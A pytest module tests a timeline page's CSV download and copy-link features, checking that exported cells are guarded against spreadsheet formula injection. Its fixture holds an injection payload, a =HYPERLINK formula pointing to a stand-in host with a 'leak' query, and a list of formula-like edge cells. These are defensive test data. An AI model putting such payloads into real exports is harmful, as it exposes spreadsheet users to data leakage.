"""The briefing page's "Download" and "Copy link" (timeline/static/share.js):
the events the filters show come out as a CSV file made in the browser, which
a spreadsheet cannot run and `timeline build` reads back; the link copied
opens the same view.

One build, shared by the module: the shipped table with three events added
whose cells a spreadsheet would take for formulas, whose title holds a
comma, quotes and a line break, and whose coordinates are negative."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from timeline import build, datablock
from timeline.csvfile import spreadsheet_safe, unprotected
from timeline.load import COMPANIONS, normalise_category

from ..conftest import SEEDS, assert_clean, blank_page, ready, settled

# Events added to the shipped table (the columns of events.csv).
HOSTILE = [
    {
        "id": "formula-title",
        "date": "2023-05-02",
        "title": '=HYPERLINK("http://example.invalid/?leak","Click, here")',
        "category": "attack",
        "place": "Valparaíso",
        "lat": "-33.0472",
        "lon": "-71.6127",
        "killed": "100+",
        "perpetrator": "@group",
        "summary": "+1 and -1 start with a sign; a spreadsheet would compute them.",
    },
    {
        "id": "quoted-title",
        "date": "2023-06",
        "end_date": "2023-07",
        "title": 'A "quoted", comma\nand a second line',
        "category": "Attack",
        "place": "-Minus town",
        "lat": "34.5",
        "lon": "69.2",
        "killed": "13 U.S. service members + more than 150 Afghans",
        "injured": "about 20",
        "summary": "''=already guarded by hand",  # read as '=…
    },
    {
        "id": "plain-warning",
        "date": "~2019",
        "title": "\tTabbed warning",
        "category": "warning",
        "place": "Kabul",
        "summary": "Not an attack: the filter leaves it out.",
    },
]
TEXT_COLUMNS = ("id", "date", "end_date", "title", "category", "place", "killed", "injured", "perpetrator", "summary")


@pytest.fixture(scope="module")
def table(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(the table's folder, its build): the seeds with HOSTILE added."""
    folder = tmp_path_factory.mktemp("download")
    for name in COMPANIONS:
        shutil.copy(SEEDS / name, folder / name)
    shutil.copytree(SEEDS / "documents", folder / "documents")
    with (SEEDS / "events.csv").open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        columns, rows = reader.fieldnames, list(reader)
    with (folder / "events.csv").open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, columns, restval="")
        writer.writeheader()
        writer.writerows(rows + HOSTILE)
    build(folder / "events.csv", folder / "out")
    return folder, folder / "out"


def events_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def block_events(html_path: Path) -> dict[str, dict]:
    """The events of a built page's data block by id, with their dates and counts resolved."""
    block = datablock.decode(html_path.read_text(encoding="utf-8"))
    dates = [dict(zip(datablock.DATE_FIELDS, d, strict=True)) for d in block["dates"]]
    counts = [dict(zip(datablock.COUNT_FIELDS, c, strict=True)) for c in block["counts"]]
    out = {}
    for e in datablock.event_records(block):
        out[e["id"]] = {
            "id": e["id"],
            "title": e["title"],
            "category": block["categories"][e["category"]]["id"],
            "date": dates[e["date"]]["iso"],
            "end_date": dates[e["end_date"]]["iso"] if e["end_date"] >= 0 else "",
            "place": e["place"],
            "killed": counts[e["killed"]]["label"] if e["killed"] >= 0 else "",
            "injured": counts[e["injured"]]["label"] if e["injured"] >= 0 else "",
            "perpetrator": e["perpetrator"],
            "summary": e["summary"],
            "loc": block["places"][e["loc"]] if e["loc"] >= 0 else None,
        }
    return out


def filter_to(page, category: str) -> None:
    """Tick one category in the filter bar, as a reader does."""
    page.click("details.filter-list summary:has-text('Category')")
    page.check(f"details.filter-list input[value='{category}']")
    page.keyboard.press("Escape")
    settled(page)


def test_download_is_the_filtered_events_safe_and_builds_again(table, open_page, tmp_path):
    folder, out = table
    loaded = open_page(out / "index.html", 1440, 900)
    page = ready(loaded)
    filter_to(page, "attack")
    with page.expect_download() as caught:
        page.click(".share-download")
    download = caught.value
    name = download.suggested_filename
    assert name.endswith("-attack.csv") and name.removesuffix(".csv").replace("-", "").isalnum(), name
    raw = Path(download.path()).read_bytes()
    assert page.locator(".share-download").is_visible()
    page.emulate_media(media="print")
    assert not page.locator(".share").is_visible()  # nothing to click on paper
    assert_clean(loaded)

    # UTF-8 with a byte order mark, every record ending in CRLF (the line break inside a title is the cell's own).
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert header == [*TEXT_COLUMNS[:6], "lat", "lon", *TEXT_COLUMNS[6:], "sources"]
    assert text.count("\r\n") == len(rows)  # one CRLF per record, none inside cells

    # Exactly the events the filter shows: worked out here from the table itself, in the page's order.
    written = events_csv(folder / "events.csv")
    wanted = {r["id"] for r in written if normalise_category(r["category"]) == "attack"}
    block = block_events(out / "index.html")
    got = [dict(zip(header, r, strict=True)) for r in body]
    assert [r["id"] for r in got] == [i for i in block if i in wanted]
    assert {"formula-title", "quoted-title"} <= wanted and "plain-warning" not in {r["id"] for r in got}

    by_id = {r["id"]: r for r in got}
    # What a spreadsheet would run is guarded by csvfile's own rule, and only that.
    formula = by_id["formula-title"]
    assert formula["title"] == "'" + HOSTILE[0]["title"]
    assert formula["summary"].startswith("'+") and formula["perpetrator"] == "'@group"
    assert (formula["lat"], formula["lon"]) == ("-33.0472", "-71.6127")  # numbers, not guarded
    quoted = by_id["quoted-title"]
    assert quoted["title"] == HOSTILE[1]["title"]  # comma, quotes and line break round-trip
    assert quoted["place"] == "'-Minus town" and quoted["summary"] == "''=already guarded by hand"
    for row in got:
        event = block[row["id"]]
        for column in TEXT_COLUMNS:
            if column in ("id", "date", "end_date", "killed", "injured"):
                assert row[column] == event[column], (row["id"], column)
            else:
                assert row[column] == spreadsheet_safe(event[column]), (row["id"], column)
                assert unprotected(row[column]) == event[column]
        explicit = event["loc"] and event["loc"][datablock.PLACE_FIELDS.index("method")] == "explicit"
        assert bool(row["lat"]) == bool(explicit), row["id"]  # only coordinates the table gave
    # Each event's sources, by publisher and title.
    sources = {s["id"]: s for s in csv.DictReader((folder / "sources.csv").open(encoding="utf-8"))}
    cited = [c for c in csv.DictReader((folder / "citations.csv").open(encoding="utf-8")) if c["event_id"] in wanted]
    assert cited
    for c in cited:
        s = sources[c["source_id"]]
        assert ": ".join(filter(None, (s["publisher"], s["title"]))) in by_id[c["event_id"]]["sources"]

    # The file builds again beside the table's sources and citations, into the same events.
    again = tmp_path / "again"
    again.mkdir()
    for name in COMPANIONS:
        shutil.copy(folder / name, again / name)
    shutil.copytree(folder / "documents", again / "documents")
    citations = [
        c for c in csv.DictReader((folder / "citations.csv").open(encoding="utf-8")) if c["event_id"] in wanted
    ]
    with (again / "citations.csv").open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, list(citations[0]))
        writer.writeheader()
        writer.writerows(citations)
    (again / "story.csv").unlink()  # its steps name events the filter left out
    (again / "events.csv").write_bytes(raw)
    build(again / "events.csv", again / "out")
    rebuilt = block_events(again / "out" / "index.html")
    assert list(rebuilt) == [r["id"] for r in got]
    for event_id, event in rebuilt.items():
        before = block[event_id]
        assert {k: v for k, v in event.items() if k != "loc"} == {k: v for k, v in before.items() if k != "loc"}
        if before["loc"] and before["loc"][datablock.PLACE_FIELDS.index("method")] == "explicit":
            assert event["loc"][:2] == before["loc"][:2]


def test_copy_link_opens_the_same_view(table, open_page):
    _, out = table
    loaded = open_page(out / "index.html", 390, 844)
    page = ready(loaded)
    context = page.context
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    filter_to(page, "attack")
    page.locator("table.events-table tbody tr[data-event-id='quoted-title']").click()
    settled(page)
    state = page.evaluate("() => ({f: Timeline.state.filters, s: Timeline.state.selected, n: Timeline.state.count})")
    assert state["s"] == "quoted-title" and state["f"]["category"] == ["attack"]
    button = page.locator(".share-link")
    assert "file on this computer" in button.get_attribute("title")
    button.click()
    said = page.locator(".share-said")
    assert said.get_attribute("aria-live") == "polite"
    said.filter(has_text="Link copied").wait_for()
    url = page.evaluate("() => navigator.clipboard.readText()")
    assert url.startswith(out.resolve().as_uri()) and "category=attack" in url

    other = context.new_page()
    other.route("**/*", lambda r: r.continue_() if r.request.url.startswith(("file:", "blob:")) else r.abort())
    other.goto(url)
    other.wait_for_selector("table.events-table tbody tr", state="attached")  # the state is read by then
    settled(other)
    again = other.evaluate("() => ({f: Timeline.state.filters, s: Timeline.state.selected, n: Timeline.state.count})")
    assert again == state

    # A browser that refuses both ways of copying: the link is shown, selected, to copy by hand.
    other.evaluate(
        "() => { Object.defineProperty(navigator, 'clipboard', {value: undefined}); "
        "document.execCommand = () => false; }"
    )
    other.click(".share-link")
    field = other.locator(".share-fallback")
    field.wait_for()
    assert field.input_value() == url
    assert other.evaluate("() => document.activeElement.classList.contains('share-fallback')")
    assert "copy" in other.locator(".share-said").inner_text()
    assert_clean(loaded)


# Cells on the edge of csvfile.spreadsheet_safe's rule.
EDGE_CELLS = [
    "", "x", "=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=1", "''=1", "'", "''", "'x", "a=1", " =1",
    "=", "'@", "-", "‘=1", "＝1", "\n=1", "2024-03-22", "~2019", "at least 100",
]  # fmt: skip


def test_the_page_guards_cells_as_python_does(browser):
    with blank_page(browser, ("common.js", "share.js")) as loaded:
        page = loaded.page
        guarded = page.evaluate("cells => cells.map(Timeline.share.spreadsheetSafe)", EDGE_CELLS)
        assert guarded == [spreadsheet_safe(c) for c in EDGE_CELLS]
        # And a whole file: Python's csv module reads back every cell as it was (guarded).
        data = {
            "meta": {"title": "Ünïcode: a/b \\ c"},
            "categories": [{"id": "attack"}],
            "sourceById": {},
            "events": [
                {
                    "id": f"e{n}", "date": {"iso": "2024"}, "end_date": None, "title": cell, "category": 0,
                    "place": cell, "loc": None, "killed": None, "injured": None, "perpetrator": "",
                    "summary": cell + ',"\r\n' + cell, "citations": [],
                }
                for n, cell in enumerate(EDGE_CELLS)
            ],
        }  # fmt: skip
        text = page.evaluate("d => Timeline.share.csvText(d, d.events.map((e, i) => i))", data)
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [r["title"] for r in rows] == [spreadsheet_safe(c) for c in EDGE_CELLS]
        assert [r["summary"] for r in rows] == [spreadsheet_safe(c + ',"\r\n' + c) for c in EDGE_CELLS]
        name = page.evaluate("d => Timeline.share.fileName(d, {category: ['attack'], q: 'Kabul airport'})", data)
        assert name == "unicode-a-b-c-attack-kabul-airport.csv"
        assert page.evaluate("d => Timeline.share.fileName({meta: {title: '///'}}, {})", data) == "events.csv"
